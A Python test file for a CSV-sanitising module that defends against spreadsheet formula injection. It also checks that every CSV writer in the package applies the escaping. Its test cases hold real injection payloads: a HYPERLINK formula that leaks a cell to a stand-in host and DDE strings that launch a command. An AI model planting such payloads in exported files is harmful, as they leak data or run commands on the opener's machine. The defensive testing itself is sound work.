"""CSV cells no spreadsheet evaluates, and every CSV writer in the package using them."""

from __future__ import annotations

import ast
import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from prevention_lens.csvsafe import (
    FORMULA_PREFIXES,
    csv_safe,
    csv_safe_record,
    csv_safe_row,
    csv_unquote,
    read_table,
)

PACKAGE = Path(__file__).parents[1] / "src" / "prevention_lens"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        (
            '=HYPERLINK("https://evil.example/?"&A1,"Click")',
            '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
        ),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("Village = 12 houses", "Village = 12 houses"),
        ("", ""),
        ("-1.5", "-1.5"),
        ("+3", "+3"),
        ("-2e-5", "-2e-5"),
        ("12", "12"),
        ("'=x", "''=x"),
        ("'quoted", "'quoted"),
    ],
)
def test_formula_prefixes_are_quoted_and_plain_numbers_kept(cell: str, written: str) -> None:
    assert csv_safe(cell) == written


@pytest.mark.parametrize("value", [None, -1.5, -3, 0, True, 2.5e-9])
def test_values_that_are_not_text_are_unchanged(value: object) -> None:
    assert csv_safe(value) is value


@given(st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "'", "1", ".", "e", "a", "\t", "\r"])))
def test_unquote_gives_back_exactly_what_was_made_safe(text: str) -> None:
    safe = csv_safe(text)
    assert csv_unquote(safe) == text
    # A plain number such as "+1" or "-1.5" is read as that number, never as a formula.
    is_number = re.fullmatch(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?", text) is not None
    assert is_number or not safe.startswith(FORMULA_PREFIXES)


@given(st.text())
def test_unquote_round_trips_any_text(text: str) -> None:
    assert csv_unquote(csv_safe(text)) == text


def test_rows_and_records_round_trip_through_the_csv_module() -> None:
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    writer.writerow(csv_safe_row(["=1+1", -4, "ok"]))
    csv.DictWriter(buffer, fieldnames=["a"]).writerow(csv_safe_record({"a": "@x"}))
    assert list(csv.reader(io.StringIO(buffer.getvalue()))) == [["'=1+1", "-4", "ok"], ["'@x"]]


def _writes_csv(tree: ast.AST) -> bool:
    for node in ast.walk(tree):
        if (
            isinstance(node, ast.Call)
            and isinstance(node.func, ast.Attribute)
            and isinstance(node.func.value, ast.Name)
            and node.func.value.id == "csv"
            and node.func.attr in ("writer", "DictWriter")
        ):
            return True
    return False


def test_every_module_that_writes_csv_makes_its_cells_safe() -> None:
    """A new CSV writer that forgets ``csv_safe`` fails here, whatever layer it is in."""
    forgetful = []
    for path in sorted(PACKAGE.rglob("*.py")):
        source = path.read_text()
        if _writes_csv(ast.parse(source)) and "csv_safe" not in source:
            forgetful.append(str(path.relative_to(PACKAGE)))
    assert forgetful == []


def test_read_table_names_every_header_problem_and_reads_no_row() -> None:
    table = read_table(
        "title,colour,title\n=1,red,x\n",
        file="a.csv",
        columns=("title", "year"),
        required=("year",),
    )
    assert table.rows == []
    found = {(problem.field, problem.row, str(problem)) for problem in table.problems}
    assert {field for field, _, _ in found} == {"colour", "year", "title"}
    assert all("a.csv" in message for _, _, message in found)


def test_read_table_numbers_rows_as_a_spreadsheet_does_and_unquotes_cells() -> None:
    text = "title,year\n'=SUM(A1),2020\n\n,,\nshort\nplain,2021\n"
    table = read_table(text, file="b.csv", columns=("title", "year"), required=("title",))
    assert table.rows == [
        (2, {"title": "=SUM(A1)", "year": "2020"}),
        (6, {"title": "plain", "year": "2021"}),
    ]
    assert [(problem.row, problem.field) for problem in table.problems] == [(5, None)]
